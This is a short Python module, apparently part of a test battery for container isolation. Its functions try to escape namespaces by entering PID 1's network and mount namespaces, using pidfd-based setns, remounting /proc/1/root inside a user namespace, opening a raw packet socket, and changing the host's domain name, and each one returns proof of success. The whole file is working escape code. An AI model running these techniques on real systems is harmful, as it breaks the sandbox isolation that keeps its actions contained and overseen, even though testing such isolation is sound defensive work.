"""Ways into other namespaces. Prize: what is only there."""
import ctypes, os, socket
from battery import call, checked, libc, read, targets, technique

NEWNS, NEWUTS, NEWUSER, NEWNET = 0x20000, 0x4000000, 0x10000000, 0x40000000


def enter(pid, kind):
    checked(libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))


@technique("network-of-pid-1", "token of a listener")
def network():
    enter(1, "net")
    with socket.create_connection(("127.0.0.1", targets["port"]), 3) as connection:
        return connection.recv(200).decode()


@technique("mounts-of-pid-1", "content of a host file")
def mounts():
    enter(1, "mnt")
    return read(targets["file"])


@technique("everything-by-process-descriptor", "content of a host file")
def by_descriptor():
    checked(libc.setns(call(434, 1, 0), NEWNS | NEWNET | NEWUTS))
    return read(targets["file"])


@technique("user-namespace-with-mounts", "content of a host file")
def user_namespace():
    libc.unshare(NEWUSER)
    checked(libc.unshare(NEWNS))
    if libc.mount(b"/proc/1/root", b"/tmp", None, ctypes.c_ulong(4096 | 16384), None) < 0:
        checked(libc.mount(b"/", b"/tmp", None, ctypes.c_ulong(4096 | 16384), None))
    return read("/tmp" + targets["file"])


@technique("user-namespace-with-network", "a raw socket in the gateway's")
def user_network():
    before = os.readlink("/proc/self/ns/net")
    libc.unshare(NEWUSER)
    capture = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    return os.readlink("/proc/self/ns/net") == before and capture.fileno() >= 0 and "raw socket"


@technique("name-of-the-host", "a setting of the host")
def name():
    checked(libc.setdomainname(targets["mark"].encode(), len(targets["mark"])))
